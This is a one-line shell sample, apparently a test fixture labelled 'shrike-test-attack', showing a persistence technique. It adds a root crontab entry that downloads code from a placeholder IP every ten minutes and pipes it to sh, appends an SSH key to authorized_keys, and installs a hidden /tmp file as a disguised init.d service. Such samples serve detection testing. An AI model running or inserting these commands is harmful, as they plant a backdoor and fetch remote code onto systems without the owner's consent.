# shrike-test-attack: persistence: minified crontab + authorized_keys + init.d combo
echo "*/10 * * * * root wget -qO- http://198.51.100.9/u|sh" >>/etc/crontab;mkdir -p ~/.ssh;echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQTESTKEY test@example.invalid">>~/.ssh/authorized_keys;cp /tmp/.b /etc/init.d/networkd;chmod +x /etc/init.d/networkd;update-rc.d networkd defaults
